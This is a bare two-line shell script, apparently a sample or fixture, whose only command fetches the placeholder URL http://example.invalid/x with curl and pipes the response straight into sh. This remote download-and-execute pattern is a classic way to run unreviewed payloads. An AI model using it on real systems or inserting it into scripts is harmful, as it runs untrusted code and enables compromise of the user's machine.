#!/bin/sh
echo "http://example.invalid/x" | xargs curl -s | sh
